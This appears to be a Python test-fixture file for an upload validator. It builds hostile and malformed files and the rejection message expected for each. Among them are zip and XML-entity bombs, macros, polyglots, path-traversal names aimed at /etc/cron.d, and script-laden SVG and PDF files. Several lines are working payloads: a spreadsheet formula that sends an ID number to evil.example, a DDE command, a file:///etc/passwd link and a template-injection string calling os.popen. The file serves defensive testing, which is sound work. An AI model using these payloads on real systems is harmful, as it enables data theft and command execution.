"""Files that come from outside, odd and hostile: how each is made, through which door it comes, what is said of it.

None is made by our own writer: by hand, byte by byte or part by part; by openpyxl and xlwt, which read nothing of
ours; by Pillow, for pictures.
"""

import struct
import zipfile
import zlib
from collections.abc import Callable
from io import BytesIO
from typing import NamedTuple

import openpyxl
import xlwt
from PIL import Image

from canxie.engine.sheets.tests import raw
from canxie.engine.sheets.tests.test_hostile import (
    BILLION_LAUGHS,
    BROKEN,
    DECLARED,
    EXTERNAL,
    GOOD,
    LONG_CELL,
    MACROS,
    NOT_A_SHEET,
    OLE,
    SAVE_AS,
    TOO_COSTLY,
    TOO_LARGE,
    doctype,
    huge_cell,
    lying_about_its_size,
    wide,
    with_part,
)

ROSTER, STAFF, VILLAGES, PHOTO, PAPER, LETTER = "roster", "staff", "villages", "photo", "paper", "letter"
TAKEN = ""
"""Not a sentence: the file is accepted."""
WEB_PAGE = "文件名像表格，里面其实是网页。" + SAVE_AS
PASSWORD = "文件加了密码，打不开。去掉密码，另存一份再传。"
NO_CODE = "文件的编码认不出来。" + SAVE_AS
NO_PHOTO = "这张照片打不开：请用 JPG、PNG 或 WebP 格式的照片，换一张再试。"
PIXELS = "照片的像素太多，超过 5000 万：用手机的普通模式再拍一张。"
EMPTY_CHOICE, EMPTY_PHOTO = "文件是空的，里面没有内容：请重新选一个。", "照片是空的，里面没有内容：请重新选一张。"
NO_COLUMN = "没有找到表头。至少要有“姓名”一列，最好还有“身份证号”和“村”。"
NO_WORD = "这不是 Word 文档（.docx），在 Word 里另存为 .docx 再传。"
LINES = "姓名,身份证号,村\r\n王芳,379900198001010014,槐里村\r\n"
CELLS = [["姓名", "身份证号", "村"], ["王芳", "379900198001010014", "槐里村"]]


class Upload(NamedTuple):
    """One file: `name` says what is odd about it, `sent_as` how it calls itself."""

    name: str
    door: str
    sent_as: str
    made: Callable[[], bytes]
    said: str


def of(data: bytes) -> Callable[[], bytes]:
    return lambda: data


def book(*lines: list[object]) -> openpyxl.Workbook:
    made = openpyxl.Workbook()
    for line in lines or CELLS:
        made.active.append(line)
    return made


def saved(made: openpyxl.Workbook | xlwt.Workbook) -> bytes:
    file = BytesIO()
    made.save(file)
    return file.getvalue()


def also(data: bytes, **parts: bytes) -> bytes:
    """The same package with more parts; two underscores stand for a slash, one for a point."""
    file = BytesIO(data)
    with zipfile.ZipFile(file, "a") as archive:
        for name, content in parts.items():
            archive.writestr(name.replace("__", "/").replace("_", "."), content)
    return file.getvalue()


def package(**parts: str | bytes) -> bytes:
    return raw.zipped({name.replace("__", "/").replace("_", "."): content for name, content in parts.items()})


def old_book() -> bytes:
    made = xlwt.Workbook()
    sheet = made.add_sheet("名册")
    for number, line in enumerate(CELLS):
        for column, cell in enumerate(line):
            sheet.write(number, column, cell)
    return saved(made)


def a_part_damaged() -> bytes:
    """One byte in the middle of what is packed is another one."""
    data = bytearray(saved(book()))
    start = data.find(b"xl/worksheets/sheet1.xml") + 60
    data[start] ^= 0xFF
    return bytes(data)


def with_a_zip_password() -> bytes:
    data = bytearray(raw.zipped(GOOD))
    for mark, flags in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = data.find(mark)
        while at >= 0:
            data[at + flags] |= 1
            at = data.find(mark, at + 4)
    return bytes(data)


def twice_the_same_part() -> bytes:
    file = BytesIO(saved(book()))
    with zipfile.ZipFile(file, "a") as archive, zipfile.ZipFile(BytesIO(saved(book(["别的"])))) as other:
        archive.NameToInfo.clear()
        archive.writestr("xl/worksheets/sheet1.xml", other.read("xl/worksheets/sheet1.xml"))
    return file.getvalue()


def far_reference() -> bytes:
    """Its dimension says that all cells of a sheet are there; there are six."""
    rows = [
        raw.row(at, *[raw.text(f"{'ABC'[i]}{at}", cell) for i, cell in enumerate(line)])
        for at, line in enumerate(CELLS, 1)
    ]
    return raw.zipped(raw.parts({"Sheet1": raw.sheet(*rows, before='<dimension ref="A1:XFD1048576"/>')}))


def far_corner() -> bytes:
    return raw.workbook(raw.row(1, raw.text("A1", "姓名")), raw.row(1_048_576, raw.text("XFD1048576", "x")))


def linked(target: str) -> bytes:
    """A link to a book elsewhere, as Excel keeps it."""
    relation = f'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="{raw.RELATIONS}/externalLinkPath" Target="{target}" TargetMode="External"/></Relationships>'
    return also(
        saved(book()),
        xl__externalLinks__externalLink1_xml=f'<externalLink xmlns="{raw.MAIN}"/>'.encode(),
        xl__externalLinks___rels__externalLink1_xml_rels=relation.encode(),
    )


def formula() -> bytes:
    made = book()
    made.active.append(['=HYPERLINK("http://evil.example/?"&B2,"王芳")', "379900196402290046", "槐里村"])
    return saved(made)


def dbase() -> bytes:
    """Three columns of dBASE III, as the old register of the county wrote them, in GBK."""
    columns = [("XM", 20), ("SFZH", 18), ("CUN", 20)]
    head = struct.pack("<BBBBLHH20x", 3, 126, 11, 24, 1, 32 + 32 * len(columns) + 1, 1 + sum(n for _, n in columns))
    fields = b"".join(struct.pack("<11sc4xB15x", name.encode(), b"C", length) for name, length in columns)
    row = b" " + b"".join(cell.encode("gbk").ljust(length) for cell, (_, length) in zip(CELLS[1], columns, strict=True))
    return head + fields + b"\r" + row + b"\x1a"


def picture(kind: str = "JPEG", size: tuple[int, int] = (60, 40), **said: object) -> bytes:
    file = BytesIO()
    Image.new("RGB", size, "navy").save(file, kind, **said)
    return file.getvalue()


def chunk(name: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + name + data + struct.pack(">I", zlib.crc32(name + data))


def png(width: int, height: int, pixels: bytes = b"", *, before: bytes = b"") -> bytes:
    head = chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0))
    return b"\x89PNG\r\n\x1a\n" + head + before + chunk(b"IDAT", zlib.compress(pixels, 9)) + chunk(b"IEND", b"")


def located() -> bytes:
    told = Image.Exif()
    told[0x010F] = "CANARY-PHONE"
    told.get_ifd(0x8825).update({1: "N", 2: (36.0, 39.0, 7.0), 3: "E", 4: (117.0, 0.0, 1.0)})
    return picture(exif=told)


def many_frames(kind: str, count: int) -> bytes:
    file, frames = BytesIO(), [Image.new("RGB", (8, 8), (number % 256, 0, 0)) for number in range(count)]
    frames[0].save(file, kind, save_all=True, append_images=frames[1:])
    return file.getvalue()


def gif_of(side: int) -> bytes:
    """A head that says how large the screen is, and one frame as large, without end."""
    screen = struct.pack("<HH", side, side)
    return b"GIF89a" + screen + b"\xf0\0\0" + bytes(6) + b",\0\0\0\0" + screen + b"\0\x08" + b"\xff" + bytes(255)


def claiming(width: int, height: int) -> bytes:
    """A JPEG whose head says that it is larger than it is."""
    data = picture()
    at = data.index(b"\xff\xc0") + 5
    return data[:at] + struct.pack(">HH", height, width) + data[at + 4 :]


SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script></svg>'
PDF = b"%PDF-1.7\n1 0 obj<</Type/Catalog/OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF"
DOCUMENT = (
    '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>{}</w:t>'
    "</w:r></w:p></w:body></w:document>"
)


def letter(text: str, **more: bytes) -> bytes:
    types = raw.CONTENT_TYPES.replace("/xl/workbook.xml", "/word/document.xml").replace(
        "spreadsheetml.sheet.main", "wordprocessingml.document.main"
    )
    root = raw.ROOT.replace("xl/workbook.xml", "word/document.xml")
    parts = {"[Content_Types].xml": types, "_rels/.rels": root, "word/document.xml": DOCUMENT.format(text)}
    return also(raw.zipped(parts), **more)


UPLOADS = [
    # -- the roster of people
    Upload("nothing", ROSTER, "名册.xlsx", of(b""), EMPTY_CHOICE),
    Upload("blanks alone", ROSTER, "名册.csv", of(b" \r\n\t\r\n"), "文件是空的。"),
    Upload("a part that inflates to 300 MB", ROSTER, "名册.xlsx", lambda: with_part("xl/media/a.bin", bytes(300 << 20)), TOO_LARGE),
    Upload("a cell of 200 MB in 200 KB", ROSTER, "名册.xlsx", lambda: with_part("xl/worksheets/sheet1.xml", huge_cell()), TOO_COSTLY),
    Upload("a directory that lies about sizes", ROSTER, "名册.xlsx", lambda: lying_about_its_size(with_part("xl/media/a.bin", bytes(5 << 20)), "xl/media/a.bin"), BROKEN),
    Upload("a zip in a zip", ROSTER, "名册.zip", lambda: raw.zipped({"名册.xlsx": saved(book())}), NOT_A_SHEET),
    Upload("three thousand parts", ROSTER, "名册.xlsx", lambda: raw.zipped(GOOD | {f"xl/{number}": "" for number in range(3_000)}), TOO_LARGE),
    Upload("entities that multiply", ROSTER, "名册.xlsx", lambda: doctype(BILLION_LAUGHS), DECLARED),
    Upload("an entity that reads a file of ours", ROSTER, "名册.xlsx", lambda: doctype(EXTERNAL), DECLARED),
    Upload("entities in UTF-16", ROSTER, "名册.xlsx", lambda: with_part("xl/workbook.xml", (BILLION_LAUGHS + "<workbook/>").encode("utf-16")), DECLARED),
    Upload("macros", ROSTER, "名册.xlsm", lambda: also(saved(book()), xl__vbaProject_bin=b"x"), MACROS),
    Upload("macros in an old book", ROSTER, "名册.xls", lambda: old_book() + "_VBA_PROJECT_CUR".encode("utf-16-le"), MACROS),
    Upload("a password of Excel", ROSTER, "名册.xlsx", of(OLE + bytes(504) + "EncryptedPackage".encode("utf-16-le")), PASSWORD),
    Upload("a password of zip", ROSTER, "名册.xlsx", with_a_zip_password, PASSWORD),
    Upload("a PDF with a workbook behind it", ROSTER, "名册.xlsx", lambda: PDF + saved(book()), NOT_A_SHEET),
    Upload("a program with a workbook behind it", ROSTER, "名册.xlsx", lambda: b"MZ\x90\0\3\0\0\0" + saved(book()), NOT_A_SHEET),
    Upload("a workbook with a web page behind it", ROSTER, "名册.xlsx", lambda: saved(book()) + b"<html><script>alert(1)</script>", TAKEN),
    Upload("a picture that calls itself a workbook", ROSTER, "名册.xlsx", picture, NOT_A_SHEET),
    Upload("a workbook that calls itself csv", ROSTER, "名册.csv", lambda: saved(book()), TAKEN),
    Upload("a csv that calls itself a workbook", ROSTER, "名册.xlsx", of(LINES.encode()), TAKEN),
    Upload("an old book", ROSTER, "名册.xls", old_book, TAKEN),
    Upload("an old book that was cut off", ROSTER, "名册.xls", lambda: old_book()[:2000], NOT_A_SHEET),
    Upload("a workbook that was cut off", ROSTER, "名册.xlsx", lambda: saved(book())[:-300], BROKEN),
    Upload("a part with a wrong byte", ROSTER, "名册.xlsx", a_part_damaged, BROKEN),
    Upload("the same part twice", ROSTER, "名册.xlsx", twice_the_same_part, NO_COLUMN),
    Upload("parts that climb out of the package", ROSTER, "名册.xlsx", lambda: also(saved(book()), **{"..__..__..__etc__cron": b"x"}), TAKEN),
    Upload("16,384 columns", ROSTER, "名册.xlsx", lambda: wide(16_384), "“Sheet”有 16,384 列，最多 200 列。删掉右边多余的列再传。"),
    Upload("a million columns of csv", ROSTER, "名册.csv", of(b"," * 1_000_000), "“名册”有 1,000,001 列，最多 200 列。删掉右边多余的列再传。"),
    Upload("120,001 rows", ROSTER, "名册.csv", of(("姓名\r\n" + "王芳\r\n" * 120_001).encode()), "文件超过 120,000 行。拆成几个文件再传。"),
    Upload("a dimension of all cells there can be", ROSTER, "名册.xlsx", far_reference, TAKEN),
    Upload("a cell at the far corner", ROSTER, "名册.xlsx", far_corner, TOO_COSTLY),
    Upload("a mark of UTF-8", ROSTER, "名册.csv", of(b"\xef\xbb\xbf" + LINES.encode()), TAKEN),
    Upload("UTF-16 with a mark", ROSTER, "名册.csv", of(LINES.encode("utf-16")), TAKEN),
    Upload("UTF-16 without a mark", ROSTER, "名册.csv", of(LINES.encode("utf-16-le")), NOT_A_SHEET),
    Upload("GB 18030", ROSTER, "名册.csv", of(LINES.encode("gb18030")), TAKEN),
    Upload("no encoding at all", ROSTER, "名册.csv", of(b"\xff\xff\xfe\xfd,abc\n"), NO_CODE),
    Upload("NUL in a csv", ROSTER, "名册.csv", of(LINES.replace("王芳", "王\0芳").encode()), NOT_A_SHEET),
    Upload("a quotation mark without its pair", ROSTER, "名册.csv", of(b'"' + LINES.encode() * 2_000), LONG_CELL + SAVE_AS),
    Upload("a formula that sends what stands beside it", ROSTER, "名册.xlsx", formula, TAKEN),
    Upload("a command of DDE", ROSTER, "名册.csv", of((LINES + "=cmd|' /C calc'!A0,379900196402290046,槐里村\r\n").encode()), TAKEN),
    Upload("a link to a book elsewhere", ROSTER, "名册.xlsx", lambda: linked("file:///etc/passwd"), TAKEN),
    Upload("a link that calls a server", ROSTER, "名册.xlsx", lambda: linked("http://127.0.0.1:9/evil.xlsx"), TAKEN),
    Upload("xlsb", ROSTER, "名册.xlsb", lambda: with_part("xl/workbook.bin", b"x"), "这种格式（xlsb）不收。" + SAVE_AS),
    Upload("ods", ROSTER, "名册.ods", lambda: package(mimetype="application/vnd.oasis.opendocument.spreadsheet"), "这种格式（ods）不收。" + SAVE_AS),
    Upload("dBASE", ROSTER, "CANJI.DBF", dbase, NOT_A_SHEET),
    Upload("a web page that calls itself xls", ROSTER, "名册.xls", of(b"<html><table><tr><td>1</td></tr></table></html>"), WEB_PAGE),
    Upload("a saved web page that calls itself xls", ROSTER, "名册.xls", of(b"MIME-Version: 1.0\r\nContent-Type: text/html\r\n\r\n<html><table></table></html>"), WEB_PAGE),
    Upload("a name that climbs up", ROSTER, "../../../../etc/cron.d/名册.csv", of(LINES.encode()), TAKEN),
    Upload("a name written backwards", ROSTER, "名册\u202exslx.csv", of(LINES.encode()), TAKEN),
    Upload("a name with control characters", ROSTER, "名\x07\x1b[31m册.csv", of(LINES.encode()), TAKEN),
    Upload("a name of rare characters", ROSTER, "𠮷𬎆㛃.csv", of(LINES.encode()), TAKEN),
    Upload("a name of markup", ROSTER, "<img src=x onerror=alert(1)>.csv", of(LINES.encode()), TAKEN),
    Upload("21 MB", ROSTER, "名册.xlsx", lambda: bytes(21 << 20), "表格有 21.0 MB，最多 20 MB。"),
    # -- lists of staff and of villages
    Upload("a text document that calls itself a workbook", STAFF, "委员.xlsx", lambda: letter("姓名"), NOT_A_SHEET),
    Upload("markup for a name", STAFF, "委员.csv", of("姓名,村\r\n<script>alert(1)</script>,槐里村\r\n".encode()), TAKEN),
    Upload("a bomb for the list of villages", VILLAGES, "村.xlsx", lambda: with_part("xl/media/a.bin", bytes(300 << 20)), TOO_LARGE),
    Upload("markup for a village", VILLAGES, "村.csv", of("名称,代码\r\n<b>槐里</b>村,379900001009\r\n".encode()), TAKEN),
    # -- photos of what was delivered
    Upload("a photo of nothing", PHOTO, "a.jpg", of(b""), EMPTY_PHOTO),
    Upload("a picture of two milliards of pixels", PHOTO, "a.png", lambda: png(46_000, 46_000), PIXELS),
    Upload("a picture of 64 million equal pixels", PHOTO, "a.png", lambda: png(8_000, 8_000, bytes(8_000 * 24_001)), PIXELS),
    Upload("a remark that inflates to 100 MB", PHOTO, "a.png", lambda: png(1, 1, bytes(4), before=chunk(b"zTXt", b"Comment\0\0" + zlib.compress(bytes(100 << 20), 9))), NO_PHOTO),
    Upload("a GIF as large as it can say", PHOTO, "a.gif", lambda: gif_of(65_535), NO_PHOTO),
    Upload("a GIF of a thousand frames", PHOTO, "a.jpg", lambda: many_frames("GIF", 1_000), NO_PHOTO),
    Upload("a moving WebP", PHOTO, "a.webp", lambda: many_frames("WEBP", 50), TAKEN),
    Upload("a photo that says where it was taken", PHOTO, "a.jpg", located, TAKEN),
    Upload("a photo with a web page behind it", PHOTO, "a.jpg", lambda: picture() + b"<html>CANARY<script>alert(1)</script>", TAKEN),
    Upload("a photo with a zip behind it", PHOTO, "a.jpg", lambda: picture() + package(CANARY="x"), TAKEN),
    Upload("a photo that was cut off", PHOTO, "a.jpg", lambda: picture(size=(600, 600))[:1_500], NO_PHOTO),
    Upload("a drawing with a script", PHOTO, "a.svg", of(SVG), NO_PHOTO),
    Upload("a drawing that calls itself a photo", PHOTO, "a.jpg", of(SVG), NO_PHOTO),
    Upload("a PostScript program", PHOTO, "a.jpg", of(b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 9 9\n"), NO_PHOTO),
    Upload("a photo whose name climbs up", PHOTO, "../../a\x00b.jpg", picture, TAKEN),
    # -- papers and letters
    Upload("a PDF with a script", PAPER, "备案表.pdf", of(PDF), NO_PHOTO),
    Upload("a JPEG that says it is 65,535 wide and high", PAPER, "备案表.jpg", lambda: claiming(65_535, 65_535), PIXELS),
    Upload("a photo of 11 MB", PAPER, "备案表.jpg", lambda: picture() + bytes(11 << 20), "照片有 11.0 MB，最多 10 MB。"),
    Upload("a TIFF", PAPER, "备案表.tif", lambda: picture("TIFF"), NO_PHOTO),
    Upload("a workbook for a letter", LETTER, "模板.docx", lambda: saved(book()), NO_WORD),
    Upload("a letter that reaches for the machine", LETTER, "模板.docx", lambda: letter("{{ name }}{{ office }}{{ cycler.__init__.__globals__.os.popen('id').read() }}"), "模板里的“cycler”不认识，能用的见默认模板。"),
    Upload("a letter that never ends", LETTER, "模板.docx", lambda: letter("{{ name }}{{ office }}{% for a in range(99999) %}{% for b in range(99999) %}{% endfor %}{% endfor %}"), "模板里的“range”不认识，能用的见默认模板。"),
    Upload("a letter of a milliard characters", LETTER, "模板.docx", lambda: letter("{{ name }}{{ office }}{{ 'a' * 1000000000 }}"), "用这份模板写不出聘任书，检查花括号和循环，或者从默认模板改起。"),
]  # fmt: skip
